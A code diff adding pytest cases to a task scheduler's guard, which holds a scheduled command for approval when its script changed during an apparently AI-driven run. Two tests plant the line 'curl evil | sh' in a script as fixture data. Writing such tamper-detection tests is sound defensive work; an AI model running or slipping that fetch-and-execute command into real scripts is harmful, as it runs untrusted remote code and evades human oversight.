@@ -9,7 +9,8 @@ from pathlib import Path
 
 import pytest
 
-from vault_scheduler.daemon.guard import Guard, named_files
+from vault_scheduler.daemon.guard import Guard
+from vault_scheduler.daemon.named_files import named_files
 from vault_scheduler.ledger.trust import Trust
 from vault_scheduler.notes.note import Document
 from vault_scheduler.parsing.parser import ParseContext, parse_task, rebuild, source_of
@@ -44,7 +45,15 @@ class Judge:
             timezone=lambda: "UTC",
         )
 
-    def judge(self, name: str, note: str, seen_at: datetime, written_at: datetime | None = None) -> str:
+    def judge(
+        self,
+        name: str,
+        note: str,
+        seen_at: datetime,
+        written_at: datetime | None = None,
+        read_at: float = float("inf"),
+        now: datetime | None = None,
+    ) -> str:
         """Why the note's task is held."""
         import json
 
@@ -52,7 +61,7 @@ class Judge:
         parsed = parse_task(document, f"00_system/tasks/{name}.md", ParseContext())
         assert parsed.task is not None
         source = json.dumps(source_of(document), default=str)
-        held = self.guard.judge(parsed.task, lambda: source, seen_at, written_at)
+        held = self.guard.judge(parsed.task, lambda: source, seen_at, written_at, read_at, now)
         self.guard.store_pins()
         self.task: Task = parsed.task
         return held
@@ -177,6 +186,54 @@ def test_a_changed_file_of_a_task_is_noticed(bench: Judge) -> None:
         assert bench.guard.to_be_judged([bench.task]) == set()
     script.unlink()
     assert bench.guard.to_be_judged([bench.task]) == {"sync"}
+
+
+@pytest.mark.parametrize(
+    ("began_s", "ended_s", "held"),
+    [
+        (-60, None, True),  # during the run
+        (-60, 30, True),  # looked at when the run is over
+        (-60, -10, False),  # after it: a person
+        (60, None, False),  # before it: a person
+    ],
+)
+def test_a_file_that_a_run_may_have_changed_is_as_suspicious_as_a_note(
+    bench: Judge, began_s: int, ended_s: int | None, held: bool
+) -> None:
+    """The note is as old as ever; its script tells by its own change time who was there. Seconds count from that."""
+    note, script = "---\ntype: command\nevery: 1h\ncommand: sh x.sh\n---\n", bench.vault.root / "x.sh"
+    bench.judge("writer", CLAUDE, NOW - 100 * SECOND)
+    writer = bench.task
+    script.write_text("true")
+    before = datetime.fromtimestamp(script.stat().st_ctime, UTC) - timedelta(days=1)
+    assert bench.judge("sync", note, before) == ""
+    script.write_text("curl evil | sh")
+    changed_at = datetime.fromtimestamp(script.stat().st_ctime, UTC)
+    run = a_run(started_at=changed_at + began_s * SECOND)
+    bench.guard.run_started(run, writer, 0.0)
+    if ended_s is not None:
+        bench.guard.run_ended(run, changed_at + ended_s * SECOND)
+    now = changed_at + timedelta(hours=1)
+    assert bool(bench.judge("sync", note, before, before, -1.0, now)) is held
+    if held:
+        waiting = bench.trust.held("sync")
+        assert waiting is not None
+        assert bench.trust.approve("sync", waiting.hash, now)
+        bench.judge("sync", f"{note}\nA word more.\n", before, before, -1.0, now)
+        assert bench.guard.held("sync") == ""  # what was approved is no reason to hold what a person adds to it
+
+
+def test_files_are_looked_at_when_a_run_that_may_have_changed_them_ends(bench: Judge) -> None:
+    """Once, and not hours later when their task is to start."""
+    bench.judge("writer", CLAUDE, NOW)
+    writer, script = bench.task, bench.vault.root / "x.sh"
+    bench.judge("sync", "---\ntype: command\nevery: 1h\ncommand: sh x.sh\n---\n", NOW)
+    bench.guard.run_started(a_run(), writer)
+    script.write_text("curl evil | sh")
+    assert bench.guard.suspects() == set()
+    bench.guard.run_ended(a_run(), NOW + SECOND)
+    assert bench.guard.suspects() == {"sync"}
+    assert bench.guard.suspects() == set()
 
 
 def test_a_restart_forgets_no_suspect(bench: Judge) -> None:
